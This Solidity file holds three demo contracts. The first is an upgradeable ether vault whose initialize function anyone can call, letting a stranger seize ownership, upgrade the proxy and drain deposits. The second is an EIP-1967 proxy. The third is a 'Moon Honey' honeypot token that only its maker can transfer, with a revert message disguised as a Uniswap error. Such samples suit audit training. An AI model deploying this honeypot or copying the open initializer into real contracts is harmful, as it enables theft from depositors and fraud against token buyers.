// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// Keeps ether for people, and can be replaced by its owner through the proxy in front of it.
contract DemoVault {
    address public owner;
    mapping(address => uint256) public deposits;

    event Upgraded(address indexed implementation);
    event Deposit(address indexed from, uint256 value);

    function initialize(address to) external {
        require(owner == address(0), "initialized");
        owner = to;
    }

    function deposit() external payable {
        deposits[msg.sender] += msg.value;
        emit Deposit(msg.sender, msg.value);
    }

    function withdraw(uint256 value) external {
        deposits[msg.sender] -= value;
        payable(msg.sender).transfer(value);
    }

    function upgradeToAndCall(address to, bytes calldata data) external payable {
        require(msg.sender == owner, "not the owner");
        assembly { sstore(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc, to) }
        emit Upgraded(to);
        if (data.length > 0) {
            (bool done,) = to.delegatecall(data);
            require(done, "call failed");
        }
    }
}

/// A proxy whose target lies where EIP-1967 says.
contract DemoProxy {
    fallback() external payable {
        assembly {
            let to := sload(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc)
            calldatacopy(0, 0, calldatasize())
            let done := delegatecall(gas(), to, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch done
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

/// A token that everybody can receive and only its maker can send.
contract DemoHoneypot is ERC20("", "") {
    address private maker;

    function name() public pure override returns (string memory) {
        return "Moon Honey";
    }

    function symbol() public pure override returns (string memory) {
        return "HONEY";
    }

    function launch() external {
        require(maker == address(0), "launched");
        maker = msg.sender;
        _mint(msg.sender, 1e27);
    }

    function _update(address from, address to, uint256 value) internal override {
        require(from == address(0) || from == maker, "TransferHelper: TRANSFER_FROM_FAILED");
        super._update(from, to, value);
    }
}
